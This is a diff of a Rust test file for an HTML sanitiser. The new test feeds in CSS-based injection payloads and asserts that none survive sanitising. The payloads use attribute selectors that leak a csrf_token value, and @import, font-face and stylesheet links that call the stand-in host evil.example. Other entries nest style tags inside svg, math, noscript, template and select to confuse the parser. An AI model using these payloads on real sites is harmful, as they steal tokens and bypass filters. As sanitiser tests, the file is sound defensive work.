@@ -123,6 +123,46 @@ fn attack_17_46_and_53_nothing_of_the_known_attacks_comes_out() {
     }
 }
 
+/// What reads a page by its styles: none of it comes out, neither as a style nor as what a style of ours would catch.
+#[test]
+fn attack_18_no_style_comes_out() {
+    for attack in [
+        "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/a)}</style>",
+        "<STYLE type='text/css' media=all>@import url('https://evil.example/a.css');</STYLE>",
+        "<style>@import '//evil.example/a'</style><p>words</p>",
+        "<style>@font-face{font-family:x;src:url(//evil.example/a);unicode-range:U+41}</style>",
+        "<style>meta[content^='a']{display:block;background:url(//evil.example/a)}</style>",
+        "<style>:has(input[value^=a]){--x:url(//evil.example/a)}</style>",
+        "<svg><style>@import '//evil.example/a'</style></svg>",
+        "<math><mtext><style>@import '//evil.example/a'</style></mtext></math>",
+        "<noscript><style>@import '//evil.example/a'</style></noscript>",
+        "<template><style>@import '//evil.example/a'</style></template>",
+        "<select><style>@import '//evil.example/a'</style></select>",
+        "<p style=\"background:url(//evil.example/a)\" class=\"btn\" id=\"csrf\">words</p>",
+        "<p style='@import \"//evil.example/a\"'>words</p>",
+        "<link rel=stylesheet href='//evil.example/a'>",
+        "<link rel=preload as=style href='https://evil.example/a'>",
+        "<?xml-stylesheet href='//evil.example/a'?><p>words</p>",
+        "<table background='//evil.example/a' bgcolor=red><tr><td width=1 background='//evil.example/a'>words</td></tr></table>",
+        "<font face='x;}@import \"//evil.example/a\";' color=red>words</font>",
+        "<p>words<style",
+        "<style><!--</style><p>words</p>--></style>",
+        "<sty<style></style>le>p{}</style>",
+    ] {
+        for html in [
+            sanitise(attack, &cid).html,
+            sanitise(&format!("<div>{attack}</div>"), &cid).html,
+            markdown_to_html(attack),
+        ] {
+            assert_eq!(fault(&html), None, "{attack}\n-> {html}");
+        }
+        let html = sanitise(attack, &cid).html;
+        for word in [" style=", "class=\"btn", " id=", "background=", "bgcolor"] {
+            assert!(!html.contains(word), "{attack}\n-> {html}");
+        }
+    }
+}
+
 #[test]
 fn the_check_itself_sees_attacks() {
     let missed: Vec<_> = [
